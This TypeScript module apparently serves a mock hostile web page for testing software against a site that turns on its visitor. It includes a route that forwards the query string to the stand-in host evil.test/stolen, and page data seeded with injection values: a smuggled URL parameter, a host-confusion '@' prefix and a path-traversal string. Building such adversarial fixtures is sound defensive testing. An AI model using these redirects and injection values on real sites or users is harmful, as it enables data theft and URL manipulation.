import { readFileSync } from 'node:fs';
import { type Answer, htmlAnswer, redirectAnswer, scriptAnswer, textAnswer } from '../http/answer';
import type { Incoming } from '../http/incoming';

const root = '/replica/hostile';
const parts = ['spy', 'cards', 'lie', 'press', 'forge', 'churn', 'main'];

/** A page of the site's own host that has turned against its visitor: `?ids=` are the posts that it shows. */
export function answerHostile({ path, query }: Incoming): Answer {
  if (path === root) return htmlAnswer(page());
  if (path === `${root}/hostile.js`) return scriptAnswer(script());
  if (path === `${root}/away`) return redirectAnswer(`https://evil.test/stolen?${query}`);
  return textAnswer('Not Found', 404);
}

/** What the page says of itself, made to break out of the addresses that it goes into. */
const scopes = {
  'webapp.app-context': {
    wid: '7300000000000000009',
    odinId: '7300000000000000008',
    webIdCreatedTime: '0&aid=0',
    region: '@evil.test/#',
    language: '../../../../evil?',
    user: { uniqueId: 'nobody' },
  },
};

/** No policy: such a page forbids itself nothing. */
function page(): string {
  return `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Hostile</title><link rel="icon" href="data:,">
<script id="__UNIVERSAL_DATA_FOR_REHYDRATION__" type="application/json">${JSON.stringify({ __DEFAULT_SCOPE__: scopes })}</script>
<script src="${root}/hostile.js"></script>
<style>article { position: relative; height: 400px } .picture { height: 200px; background: #345 }</style></head>
<body><div id="column-list-container"></div></body>
</html>
`;
}

/** One classic script of all parts, which share one scope, as the site's own app is served. */
function script(): string {
  const sources = parts.map((name) =>
    readFileSync(new URL(`../site/hostile/${name}.js`, import.meta.url), 'utf8'),
  );
  const plain = sources.map((source) => source.replace(/^import [^;]*;$/gm, '').replace(/^export /gm, ''));
  return `(() => {\n'use strict';\n${plain.join('\n')}\n})();\n`;
}
